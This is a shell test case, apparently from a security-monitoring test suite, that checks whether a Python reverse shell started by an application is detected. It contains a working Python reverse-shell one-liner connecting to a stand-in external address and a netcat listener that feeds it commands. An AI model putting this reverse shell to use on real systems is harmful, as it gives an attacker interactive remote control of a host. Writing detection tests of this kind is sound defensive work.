# shellcheck shell=bash disable=SC2034
# SPDX-License-Identifier: GPL-2.0-or-later
case_title='a reverse shell in python, started by the application'
case_class=A
case_prepare() {
	run app pg-many sh -c 'while sleep 0.4; do [ ! -e /tmp/go ] || { rm -f /tmp/go; python3 -c "
import socket, os, subprocess
" 2>/dev/null; python3 -c "
import socket, os
s = socket.create_connection((\"203.0.113.9\", 4445))
for i in 0, 1, 2: os.dup2(s.fileno(), i)
os.execv(\"/bin/sh\", [\"sh\", \"-i\"])"; }; done'
}
case_attack() {
	(sleep 1; echo id; sleep 1) | lab_in outside timeout 5 nc -l -p 4445 >/dev/null 2>&1 &
	sleep 0.3
	in_ app sh -c ': >/tmp/go'
	sleep 2
}
case_expect='process.new A09python-app /usr/bin/python3* *
egress.new A09python-app * ext:203.0.113.9'
